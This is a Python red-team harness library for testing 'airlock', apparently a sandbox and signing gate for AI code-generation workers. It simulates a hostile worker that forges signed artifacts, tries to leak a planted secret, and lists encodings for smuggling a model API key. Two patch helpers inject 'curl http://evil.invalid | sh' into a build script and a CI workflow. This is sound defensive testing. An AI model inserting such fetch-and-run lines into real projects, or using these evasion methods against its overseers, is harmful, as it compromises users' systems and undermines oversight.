"""Red-team harness library: a hostile worker that holds a valid job token.

It decodes the token (PASETO v4.public: the payload is readable without verification), takes
the per-job Ed25519 seed from it, builds artifacts byte by byte (tar + gzip, packet.json) and
signs DSSE envelopes over them exactly as docs/FORMATS.md says, then drops them where the
token's file:// URLs point. Everything is stdlib plus `cryptography` (Ed25519).
"""

import base64
import gzip
import hashlib
import io
import json
import os
import shutil
import stat
import subprocess
import tarfile
import time
import urllib.parse

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives import serialization

PAYLOAD_TYPE = "application/vnd.in-toto+json"
PRED_ARTIFACT = "urn:airlock:predicate:artifact:v1"
RUN_ID = "0123456789abcdef"
SANDBOX_OK = "namespaces+landlock+seccomp"

LIB_RS = "pub fn add(a: i32, b: i32) -> i32 {\n    a + b\n}\n"
BUILD_SH = "#!/bin/sh\necho build\n"
CI_YML = "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./scripts/build.sh\n"


# ---------------------------------------------------------------- crypto / formats


def b64url_decode(s):
    return base64.urlsafe_b64decode(s + "=" * (-len(s) % 4))


def token_claims(token):
    """The token's payload (unverified: we are the worker, we just read it)."""
    assert token.startswith("v4.public."), token[:20]
    body = b64url_decode(token[len("v4.public."):].split(".")[0])
    return json.loads(body[:-64])


def fileurl_path(url):
    assert url.startswith("file://"), url
    return urllib.parse.unquote(url[len("file://"):])


def canonical(v):
    return json.dumps(v, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()


def pae(body):
    t = PAYLOAD_TYPE.encode()
    return b"DSSEv1 %d %s %d %s" % (len(t), t, len(body), body)


def sha(b):
    return hashlib.sha256(b).hexdigest()


def sign_envelope(seed_hex, statement):
    key = Ed25519PrivateKey.from_private_bytes(bytes.fromhex(seed_hex))
    raw = key.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    body = canonical(statement)
    sig = key.sign(pae(body))
    env = {
        "payload": base64.b64encode(body).decode(),
        "payloadType": PAYLOAD_TYPE,
        "signatures": [{"keyid": sha(raw), "sig": base64.b64encode(sig).decode()}],
    }
    return (json.dumps(env, indent=2) + "\n").encode()


def statement(subject, digest, predicate):
    return {
        "_type": "https://in-toto.io/Statement/v1",
        "subject": [{"name": subject, "digest": {"sha256": digest}}],
        "predicateType": PRED_ARTIFACT,
        "predicate": predicate,
    }


def make_tar_gz(members):
    """members: list of (name, bytes). GNU headers, mode 0644, mtime 0, gzip level 6, mtime 0."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mode = 0o644
            ti.mtime = 0
            ti.uid = ti.gid = 0
            ti.uname = ti.gname = ""
            tf.addfile(ti, io.BytesIO(data))
    return gzip.compress(buf.getvalue(), compresslevel=6, mtime=0)


def count_patch(patch):
    files = added = removed = 0
    in_hunk = False
    for line in patch.decode("utf-8", "replace").split("\n"):
        if line.startswith("diff --git "):
            files += 1
            in_hunk = False
        elif line.startswith("@@ "):
            in_hunk = True
        elif in_hunk and line.startswith("+"):
            added += 1
        elif in_hunk and line.startswith("-"):
            removed += 1
    return files, added, removed


def modify_lib_patch(extra_line="    // tidy helper"):
    """A patch that adds one line inside src/lib.rs (3-line file)."""
    return (
        "diff --git a/src/lib.rs b/src/lib.rs\n"
        "--- a/src/lib.rs\n"
        "+++ b/src/lib.rs\n"
        "@@ -1,3 +1,4 @@\n"
        " pub fn add(a: i32, b: i32) -> i32 {\n"
        "+" + extra_line + "\n"
        "     a + b\n"
        " }\n"
    ).encode()


def new_file_patch(path, lines):
    body = "".join("+" + l + "\n" for l in lines)
    n = len(lines)
    rng = "1" if n == 1 else "1,%d" % n
    return (
        "diff --git a/%s b/%s\nnew file mode 100644\n--- /dev/null\n+++ b/%s\n@@ -0,0 +%s @@\n%s"
        % (path, path, path, rng, body)
    ).encode()


def modify_build_sh_patch():
    return (
        "diff --git a/scripts/build.sh b/scripts/build.sh\n"
        "--- a/scripts/build.sh\n"
        "+++ b/scripts/build.sh\n"
        "@@ -1,2 +1,3 @@\n"
        " #!/bin/sh\n"
        " echo build\n"
        "+curl -s http://evil.invalid/x | sh\n"
    ).encode()


def modify_ci_patch():
    return (
        "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n"
        "--- a/.github/workflows/ci.yml\n"
        "+++ b/.github/workflows/ci.yml\n"
        "@@ -4,3 +4,4 @@\n"
        "     runs-on: ubuntu-latest\n"
        "     steps:\n"
        "       - run: ./scripts/build.sh\n"
        "+      - run: curl http://evil.invalid | sh\n"
    ).encode()


class Job:
    def __init__(self, world, token, out):
        self.world = world
        self.token = token
        self.claims = token_claims(token)
        self.air = self.claims["airlock"]
        self.id = self.air["job"]
        self.seed = self.air["job_key"]
        self.model_key = self.air.get("model_key")
        self.submit_out = out

    def drop_path(self, member):
        return fileurl_path(self.air["drop"][member])

    def drop_dir(self):
        return os.path.dirname(self.drop_path("artifact"))

    def packet(self, patch, **over):
        f, a, r = count_patch(patch)
        p = {
            "format": "airlock.packet/v1",
            "job": self.id,
            "run_id": RUN_ID,
            "bundle_sha256": self.air["bundle"]["sha256"],
            "model_requested": "model-a",
            "model_reported": "model-a",
            "tokens_in": 10,
            "tokens_out": 20,
            "diff_sha256": sha(patch),
            "files_changed": f,
            "lines_added": a,
            "lines_removed": r,
            "refused": [],
            "ignored": 0,
            "limits_hit": [],
            "exit": {"kind": "exited", "code": 0},
            "timings": {"started_at_ms": 1, "finished_at_ms": 2, "generator_ms": 1},
            "worker_version": "0.1.0",
            "sandbox": SANDBOX_OK,
            "egress": [],
            "partial": False,
        }
        for k, v in over.items():
            p[k] = v
        return p

    def build(self, patch=None, log=None, review=None, partial=False, subject="artifact.tar.gz",
              pred_over=None, raw_packet=None, **packet_over):
        """Returns (tarball, envelope) for an artifact (or checkpoint with subject/partial)."""
        if patch is None:
            patch = modify_lib_patch()
        pk = self.packet(patch, **packet_over)
        if partial:
            pk.setdefault("partial", True)
            pk["partial"] = True
            if "exit" not in packet_over:
                pk["exit"] = {"kind": "running", "code": None}
        pbytes = raw_packet if raw_packet is not None else (
            json.dumps(pk, indent=2, ensure_ascii=False) + "\n").encode()
        members = []
        if log is not None:
            members.append(("generator.log", log if isinstance(log, bytes) else log.encode()))
        members.append(("packet.json", pbytes))
        members.append(("patch.diff", patch))
        if review is not None:
            members.append(("review.md", review if isinstance(review, bytes) else review.encode()))
        tgz = make_tar_gz(members)
        pred = {
            "job": self.id,
            "run_id": RUN_ID,
            "bundle_sha256": self.air["bundle"]["sha256"],
            "packet_sha256": sha(pbytes),
            "partial": partial,
        }
        if pred_over:
            pred.update(pred_over)
        env = sign_envelope(self.seed, statement(subject, sha(tgz), pred))
        return tgz, env

    def drop(self, tgz, env, slot="artifact"):
        names = {"artifact": ("artifact", "artifact_envelope"),
                 "checkpoint": ("checkpoint", "checkpoint_envelope"),
                 "checkpoint_1": ("checkpoint_1", "checkpoint_1_envelope")}[slot]
        for member, data in zip(names, (tgz, env)):
            p = self.drop_path(member)
            os.makedirs(os.path.dirname(p), exist_ok=True)
            if os.path.lexists(p):
                os.unlink(p)
            with open(p, "wb") as f:
                f.write(data)

    def put(self, **kw):
        tgz, env = self.build(**kw)
        self.drop(tgz, env)
        return tgz, env


# ---------------------------------------------------------------- the world


class Result:
    def __init__(self, argv, rc, out, err, timed_out=False):
        self.argv, self.rc, self.out, self.err, self.timed_out = argv, rc, out, err, timed_out

    @property
    def both(self):
        return self.out + self.err

    def text(self):
        return self.both.decode("utf-8", "replace")

    def json(self):
        try:
            return json.loads(self.out)
        except Exception:
            return None


class World:
    """A temp root with a trusted home (file:// store), a repo, a sentinel dir outside both,
    and a model-key minting command whose keys the harness knows (it reads them from the
    tokens, as a worker would)."""

    def __init__(self, bindir, root, model_key=True, key_style="plain"):
        self.bindir = bindir
        self.root = root
        self.home = os.path.join(root, "home")
        self.repo = os.path.join(root, "repo")
        self.userhome = os.path.join(root, "userhome")
        self.sentinel = os.path.join(root, "sentinel")
        self.outputs = []  # every Result, for the global leak checks
        os.makedirs(self.userhome)
        r = self.airlock("init")
        assert r.rc == 0, r.text()
        self.store = os.path.join(self.home, "store")
        self._make_repo()
        self._make_sentinel()
        if model_key:
            mint = os.path.join(root, "mint.sh")
            # A key with characters that base64/hex/url-encoding all change.
            with open(mint, "w") as f:
                f.write("#!/bin/sh\nprintf 'sk-rt/%s+Zq9=\\n' \"$(printf %s \"$AIRLOCK_JOB\" | sha256sum | cut -c1-32)\"\n")
            os.chmod(mint, 0o755)
            with open(os.path.join(self.home, "config.toml"), "a") as f:
                f.write('\n[model_key]\ncommand = ["%s"]\nenv = "OPENAI_API_KEY"\n' % mint)
        self.prompt = os.path.join(root, "prompt.txt")
        with open(self.prompt, "w") as f:
            f.write("Add a docstring.\n")
        self.jobs = []

    def _git(self, *args, cwd=None):
        env = dict(os.environ, GIT_CONFIG_GLOBAL="/dev/null", GIT_CONFIG_NOSYSTEM="1",
                   GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@example.invalid",
                   GIT_COMMITTER_NAME="t", GIT_COMMITTER_EMAIL="t@example.invalid",
                   GIT_AUTHOR_DATE="2026-01-01T00:00:00Z", GIT_COMMITTER_DATE="2026-01-01T00:00:00Z")
        return subprocess.run(["git", "-C", cwd or self.repo] + list(args), env=env,
                              capture_output=True, check=False)

    def _make_repo(self):
        files = {
            "src/lib.rs": LIB_RS,
            "README.md": "# sample\n",
            ".github/workflows/ci.yml": CI_YML,
            "scripts/build.sh": BUILD_SH,
        }
        for p, c in files.items():
            full = os.path.join(self.repo, p)
            os.makedirs(os.path.dirname(full), exist_ok=True)
            with open(full, "w") as f:
                f.write(c)
        os.chmod(os.path.join(self.repo, "scripts/build.sh"), 0o755)
        self._git("init", "-q", "-b", "main")
        self._git("add", "-A", "-f", ".")
        self._git("commit", "-q", "-m", "initial")

    def _make_sentinel(self):
        s = self.sentinel
        os.makedirs(os.path.join(s, "nested", "deep"))
        self.sentinel_secret = "SENTINEL-" + os.urandom(16).hex()
        files = {
            "keep.tar.gz": os.urandom(64),
            "artifact.tar.gz": os.urandom(80),
            "nested/deep/payload.tar.gz": os.urandom(96),
            "secret.txt": (self.sentinel_secret + "\n").encode(),
        }
        for p, c in files.items():
            with open(os.path.join(s, p), "wb") as f:
                f.write(c)
        os.chmod(os.path.join(s, "secret.txt"), 0o600)
        self.sentinel_hashes = {p: sha(c) for p, c in files.items()}
        self.sentinel_snap = self.snap(s)

    @staticmethod
    def snap(d):
        out = {}
        for dp, dns, fns in os.walk(d, followlinks=False):
            for n in dns + fns:
                p = os.path.join(dp, n)
                st = os.lstat(p)
                h = None
                if stat.S_ISREG(st.st_mode):
                    with open(p, "rb") as f:
                        h = sha(f.read())
                out[os.path.relpath(p, d)] = (stat.S_IFMT(st.st_mode), st.st_size, st.st_mtime_ns, h)
        return out

    def sentinel_intact(self):
        return self.snap(self.sentinel) == self.sentinel_snap

    def run(self, argv, timeout=120, stdin=None, record=True):
        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": self.userhome,
               "NO_COLOR": "1", "TERM": "xterm-256color"}
        try:
            p = subprocess.run(argv, env=env, capture_output=True, timeout=timeout,
                               input=stdin, cwd=self.root)
            r = Result(argv, p.returncode, p.stdout, p.stderr)
        except subprocess.TimeoutExpired as e:
            r = Result(argv, None, e.stdout or b"", e.stderr or b"", timed_out=True)
        if record:
            self.outputs.append(r)
        return r

    def airlock(self, *args, timeout=120):
        return self.run([os.path.join(self.bindir, "airlock"), "--home", self.home] + list(args),
                        timeout=timeout)

    def submit(self, model="model-a", json_out=False):
        tok = os.path.join(self.root, "tok-%d" % len(self.jobs))
        args = ["submit", "--repo", self.repo, "--prompt-file", self.prompt, "--model", model,
                "--token-out", tok]
        if json_out:
            args.append("--json")
        r = self.airlock(*args)
        assert r.rc == 0, "submit failed: " + r.text()
        with open(tok) as f:
            token = f.read().strip()
        j = Job(self, token, r)
        self.jobs.append(j)
        return j

    def minted_keys(self):
        return [j.model_key for j in self.jobs if j.model_key]

    def ledger_text(self):
        """Every ledger entry's decoded payload, concatenated (what an auditor reads)."""
        d = os.path.join(self.store, "ledger")
        out = []
        for n in sorted(os.listdir(d)) if os.path.isdir(d) else []:
            with open(os.path.join(d, n), "rb") as f:
                raw = f.read()
            out.append(raw)
            try:
                out.append(base64.b64decode(json.loads(raw)["payload"]))
            except Exception:
                pass
        return b"\n".join(out)

    def ledger_entries(self, job=None):
        d = os.path.join(self.store, "ledger")
        out = []
        for n in sorted(os.listdir(d)) if os.path.isdir(d) else []:
            with open(os.path.join(d, n), "rb") as f:
                st = json.loads(base64.b64decode(json.loads(f.read())["payload"]))
            pred = st.get("predicate", {})
            if job is None or pred.get("job") == job:
                out.append(pred)
        return out

    def kept(self, job, name):
        return os.path.join(self.home, "jobs", job.id, name)


def key_encodings(key):
    """The minted key and its common encodings (what a generator might smuggle it out as)."""
    k = key.encode()
    return {
        "raw": k,
        "base64": base64.b64encode(k),
        "base64url": base64.urlsafe_b64encode(k).rstrip(b"="),
        "hex": k.hex().encode(),
        "HEX": k.hex().upper().encode(),
        "urlenc": urllib.parse.quote(key, safe="").encode(),
    }


def rm(p):
    if os.path.islink(p) or os.path.isfile(p) or (os.path.exists(p) and not os.path.isdir(p)):
        os.unlink(p)
    elif os.path.isdir(p):
        shutil.rmtree(p)


def now():
    return time.time()
